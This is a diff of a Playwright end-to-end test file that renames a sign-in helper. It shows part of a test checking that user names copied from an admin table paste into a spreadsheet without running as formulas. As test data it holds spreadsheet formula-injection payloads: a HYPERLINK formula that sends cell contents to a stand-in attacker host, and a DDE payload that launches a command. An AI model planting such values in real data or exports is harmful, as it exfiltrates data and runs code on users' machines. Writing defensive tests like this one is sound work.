@@ -2,7 +2,7 @@
 import { readFile } from 'node:fs/promises';
 import type { Locator } from '@playwright/test';
 import { administrator } from '#tests/support/accounts.ts';
-import { expect, signInAt, storeSession, test } from '#tests/support/journeys.ts';
+import { expect, sessionOf, storeSession, test } from '#tests/support/journeys.ts';
 import { FORMS, pageOf, SURROUNDINGS } from './pages.ts';
 
 const [watching, , classic] = FORMS;
@@ -18,7 +18,7 @@ for (const [form, of] of [
     dist,
     embedding,
   }) => {
-    await storeSession(page, embedding, await signInAt(academy, administrator));
+    await storeSession(page, embedding, await sessionOf(academy, administrator));
     const writers: string[] = [];
     page.on('request', (request) => {
       if (/\/chunks\/(?:writing|pdf|excel)-/.test(request.url())) writers.push(request.url());
@@ -48,7 +48,7 @@ test('what is copied out of a table is pasted into a spreadsheet without running
   embedding,
 }) => {
   await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: embedding.origin });
-  await storeSession(page, embedding, await signInAt(academy, administrator));
+  await storeSession(page, embedding, await sessionOf(academy, administrator));
   const names = ['=HYPERLINK("https://evil.example?"&A2,"Pay")', '@SUM(1+1)*cmd|" /C calc"!A0', '-2+3', 'Asha'];
   await page.route('**/api/admin/users?**', (route) =>
     route.fulfill({
